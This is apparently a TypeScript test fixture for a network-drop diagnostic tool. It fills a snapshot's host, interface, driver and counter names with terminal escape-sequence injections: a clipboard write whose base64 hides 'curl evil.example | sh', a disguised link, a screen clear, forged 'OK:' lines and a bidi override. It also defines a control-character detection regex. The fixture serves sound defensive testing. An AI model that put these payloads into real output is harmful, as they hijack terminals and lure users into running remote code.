import type { Snapshot } from '../../collectors/model.js';

// What a compromised host (or a stranger's archive) can put in the names it
// reports. The kernel allows ESC in an interface name; the rest is the same
// idea in host, OS, driver and counter names.
export const OSC52 = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07'; // writes the clipboard
export const OSC8 = '\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\'; // a disguised link
export const CLEAR = '\x1b[2J\x1b[H'; // clears the screen
export const FORGE = '\rOK: all good\nOK: forged'; // overwrites a line, starts another
export const CSI8 = '\x9b31m'; // C1: an 8-bit CSI
export const RLO = '\u202e'; // bidi override

// Anything a terminal would act on. \n is legitimate between lines.
export const RAW_CONTROL =
  /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]/u;

// Every line printed starts with text of ours, never with a forged one.
export function forgedLines(text: string): string[] {
  return text.split('\n').filter((l) => /^\s*OK:/.test(l));
}

export const IFACE = `eth0${OSC52}\nOK: x`;
export const DRIVER = `mlx5_core${CLEAR}`;
// Says "drop", so the driver tables count it as loss and it is shown.
export const COUNTER = `rx_drops${OSC8}${FORGE}`;

export function hostileSnapshot(over: { rxDropped?: bigint; counter?: bigint } = {}): Snapshot {
  return {
    schema: 'dropkit.snapshot/1',
    host: `node-7${CLEAR}${FORGE}`,
    takenAt: '2026-11-27T14:15:02.000Z',
    durationMs: 40,
    facts: {
      hostname: `node-7${CLEAR}${FORGE}`,
      os: `Debian GNU/Linux 12${OSC8}`,
      kernelRelease: `6.1.0${CSI8}`,
      cpus: 2,
      cpuModel: `Neoverse${RLO}1N`,
      cloud: { provider: 'azure', vmSize: `Standard${RLO}D8`, location: 'westeurope\x07' },
    },
    interfaces: [
      {
        name: IFACE,
        driver: DRIVER,
        firmware: `16.30${OSC52}`,
        kind: 'physical',
        slaves: [],
        mtu: 1500,
        state: `up${FORGE}`,
        kernel: { rx_packets: 1000n, rx_dropped: over.rxDropped ?? 5n, rx_missed_errors: 3n },
        ethtool: { [COUNTER]: over.counter ?? 7n, rx_out_of_buffer: 9n },
        ring: { rx: 1024, rxMax: 8192, tx: 1024, txMax: 8192 },
      },
    ],
    softnet: [
      {
        cpu: 0,
        cpuFromIndexColumn: true,
        processed: 100n,
        dropped: 4n,
        timeSqueeze: 1n,
        columns: 13,
      },
    ],
    sysctls: { 'net.core.netdev_max_backlog': `1000${CLEAR}` },
    snmp: { Udp: { [`RcvbufErrors${OSC52}`]: 3n } },
    sources: [
      {
        id: 'ethtool_g',
        iface: IFACE,
        rawPath: 'ethtool/x/g.txt',
        source: 'ethtool -g',
        exitCode: 1,
        ok: false,
        reason: `not supported${FORGE}`,
        bytes: 0,
      },
    ],
    warnings: [],
  };
}
